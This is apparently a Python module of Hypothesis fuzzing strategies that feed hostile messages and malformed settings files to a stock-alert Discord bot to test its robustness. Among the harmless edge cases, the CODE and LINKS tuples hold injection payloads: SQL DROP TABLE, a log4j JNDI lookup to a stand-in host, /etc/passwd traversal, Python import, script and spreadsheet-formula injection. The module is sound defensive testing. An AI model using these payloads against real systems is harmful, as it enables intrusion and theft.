"""Words that somebody types who wants to break something, or to make the bot say what it must not."""

from __future__ import annotations

import json

from hypothesis import strategies as st

PINGS = (
    "@everyone",
    "@here",
    "<@4>",
    "<@!4>",
    "<@&4>",
    "<#4>",
    "<@99999999999999999999>",
    "@\u200beveryone",
    "<@&{0}>",
)
LINKS = (
    "https://b.example/a?b=c",
    "HTTP://B.EXAMPLE",
    "ftp://b.example",
    "[x](http://b.example)",
    "[x](<https://b.example> 'y')",
    "![x](https://b.example/a.png)",
    "<https://b.example>",
    "\\[x\\](https://b.example)",
    "javascript://%0aalert(1)",
    "http:\u200b//b.example",
    "http:\u202e//b.example",
    "file:///etc/passwd",
    "discord://-/channels/1/2",
    "//b.example/../..",
    "https://discord.com/channels/1/2/3",
    "https://discord.com/channels/@me/2/3",
    "https://discord.com/channels/1/2/" + "9" * 20,
    "https://discord.com.b.example/channels/1/2/3",
)
INVITES = (
    "discord.gg/abc",
    "DISCORD.GG/abc",
    "discordapp.com/invite/abc",
    "discord.com/invite/abc",
    "discord\u200b.gg/abc",
    "dis\u00adcord.gg/abc",
    "https://discord.gg/abc",
    "discord.gg//abc",
    "discord.gg\\/abc",
)
MARKUP = (
    "**_~~__`|>#",
    "```py\nprint(1)\n```",
    "``` `` `",
    "||spoiler||",
    "> quote",
    "# head",
    "-# small",
    "<t:0:R>",
    "</cross:1>",
    "<a:x:1>",
    "<:x:1>",
    "<id:guide>",
    "\\",
    "\\\\",
    "\\`@everyone\\`",
)
TURNED = (
    "\u202eTUR\u202c",
    "\u2066\u2067\u2068\u2069",
    "\u200e\u200f\u061c",
    "\u05d0\u05d1 STRL \u0627\u0644",
    "a\u200b\u200c\u200d\u2060\ufeffb",
    "\U000e0041\U000e007f",
)
LETTERS = (
    "a\x00b",
    "\x1b[31m",
    "\x7f\x85\u2028\u2029",
    "Z\u0351\u036b\u0343" * 30,
    "\N{SNOWMAN}\N{VARIATION SELECTOR-16}",
    "\U0001f468\u200d\U0001f469\u200d\U0001f467",
    "\U0010ffff\ufffe",
    "\ufffd",
    "\u0130\u0131\u1e9e\ufb03",
    "\uff03\uff20everyone",
    "\u0661\u0662",
    "\u00b2\u2460\u4e09",
    "\u3000\u00a0\u2003",
    "caf\u00e9 cafe\u0301",
)
NUMBERS = (
    "0",
    "-0",
    "-1",
    "1e999",
    "-1e999",
    "1e-999",
    "nan",
    "NaN",
    "inf",
    "-Infinity",
    "0x10",
    "1_000",
    "1,5",
    "٣",
    "9" * 19,
    "9" * 400,
    str(2**63),
    str(2**64),
    "0.1" + "0" * 90 + "1",
    "00000000000000000001",
    "+5",
    "5-",
    "1/0",
)
CODE = (
    "'; DROP TABLE route; --",
    '" OR 1=1 --',
    "{0}{symbol}{__class__}%s%n%(x)s$(x)`x`",
    "${jndi:ldap://b.example/a}",
    "../../etc/passwd",
    "C:\\con\\nul",
    "%00%0a%2e%2e",
    "null None undefined true",
    "__import__('os')",
    "<script>alert(1)</script>",
    "&lt;&#64;everyone",
    "=cmd|' /C calc'!A0",
)
IDS = (
    "sc:1:keep:cross:slow:150:252:abcdef",
    "sc:1:undo:1",
    "sc:2:cancel",
    "sc:1:forget:1:29000000",
    "sc:1:take:0",
    "sc:1",
    "sc::",
    ":" * 90,
)
QUOTED = ('"', "'", '""', '"a', 'a"b', "\u201copen", "\u201cshut\u201d", "\u300c\u300d", '"a" "b', '\\"')
SPACED = ("", " ", "\n", "\t\n\r", " a  b ", "a\nb\nc", "\n\n\n@everyone")
PIECES = (*PINGS, *LINKS, *INVITES, *MARKUP, *TURNED, *LETTERS, *NUMBERS, *CODE, *IDS, *QUOTED, *SPACED)

MEANT = (
    "cross",
    "smallcap",
    "CROSS",
    "crss",
    "STRL",
    "strl",
    "$STRL",
    "IWM",
    "RUT",
    "russell 2000",
    "all",
    "ALL",
    "none",
    "off",
    "here",
    "dm",
    "watchlist",
    "universe:smallcap",
    "sector:Energy",
    "sector:",
    "theme:x",
    "crosses",
    "highs",
    "golden_cross",
    "death cross",
    "slow",
    "fast",
    "150",
    "1.5",
    "3d",
    "12h",
    "1 week 2 days",
    "90m",
    "22:00-07:00",
    "22 to 7",
    "18:00",
    "6pm",
    "12.30 a.m.",
    "24:00",
    "instant",
    "daily",
    "daily 18:00",
    "at once",
    "Europe/Berlin",
    "berlin",
    "UTC+2",
    "Etc/GMT-3",
    "1",
    "5",
    "5+",
    "4/5",
    "★★★",
    "channel:#bot",
    "channel:",
    "importance:4",
    "importance:9",
    "role:none",
    "ping:yes",
    "at:18:00",
    "signals:cross",
    "subjects:STRL,IWM",
    ":",
    "a:b:c",
    ",",
    ",,,",
    "-",
)
"""Words that mean something to the bot, to come past its first questions."""


def _cut(text: str, limit: int) -> str:
    return text[:limit]


def words(limit: int = 600) -> st.SearchStrategy[str]:
    """Return hostile texts of at most `limit` characters."""
    piece = st.sampled_from(PIECES)
    some = st.one_of(st.sampled_from(PIECES), st.sampled_from(MEANT), st.text(max_size=8))
    joined = st.tuples(st.sampled_from((" ", "", ",", ", ", "\n", ":")), st.lists(some, min_size=1, max_size=5))
    long = st.tuples(
        st.sampled_from((*'a9@<`:[*\\"/.-', "\u202e", "\U0001d538", "\u00df", "ab ", "@everyone ")),
        st.integers(2, 2000),
    )
    numbers = st.one_of(st.integers(), st.floats(), st.integers(-(10**60), 10**60)).map(str)
    return st.one_of(
        piece,
        st.text(max_size=min(limit, 30)),
        joined.map(lambda pair: pair[0].join(pair[1])),
        joined.map(lambda pair: pair[0].join(pair[1])),
        long.map(lambda pair: pair[0] * pair[1]),
        numbers,
    ).map(lambda text: _cut(text, limit))


def _toml_values() -> st.SearchStrategy[str]:
    texts = words(80).map(lambda text: json.dumps(text, ensure_ascii=False).replace("\x7f", "\\u007f"))
    meant = st.sampled_from(
        ('"cross"', '"STRL"', '"daily"', '"instant"', '"18:00"', '"Europe/Berlin"', '"{channel}"', '"{role}"', "150")
    )
    plain = st.sampled_from(
        ("nan", "-inf", "inf", "true", "18:00:00", "2026-01-01", "2026-01-31T18:00:00Z", "9999-12-31T23:59:59-23:59")
    )
    odd = st.sampled_from(
        ("0x7fffffffffffffffff", "1e999", "-0", "[]", "{}", "[[]]", '["a", 1]', "[" * 60, "''", '"""')
    )
    numbers = st.integers(-(10**30), 10**30).map(str)
    scalar = st.one_of(meant, texts, plain, odd, numbers)
    return st.one_of(scalar, st.lists(scalar, max_size=4).map(lambda items: f"[{', '.join(items)}]"), words(60))


_KEYS = (
    "format",
    "moderator_role",
    "time_zone",
    "channel",
    "signal",
    "subjects",
    "subject",
    "importance",
    "role",
    "cadence",
    "daily_at",
    "until",
    "slow",
    "fast",
    "require_holds",
)
_HEADS = (
    "[server]",
    "[thresholds]",
    "[thresholds.cross]",
    "[thresholds.nothing]",
    "[[routes]]",
    "[[silences]]",
    "[routes]",
    "[[server]]",
    "[a.b.c]",
    "",
)


def files() -> st.SearchStrategy[bytes]:
    """Return hostile files: bytes, words, and what looks like a server's settings."""
    key = st.one_of(st.sampled_from(_KEYS), st.sampled_from(_KEYS), words(40))
    line = st.tuples(key, _toml_values()).map(" = ".join)
    part = st.tuples(st.sampled_from(_HEADS), st.lists(line, max_size=6)).map(
        lambda pair: "\n".join([pair[0], *pair[1]])
    )
    document = st.lists(part, max_size=5).map(lambda parts: "\n".join(["format = 1", *parts]))
    return st.one_of(
        document.map(lambda text: text.encode("utf-8")),
        document.map(lambda text: text.encode("utf-8")),
        words(600).map(lambda text: text.encode("utf-8")),
        st.binary(max_size=120),
    )
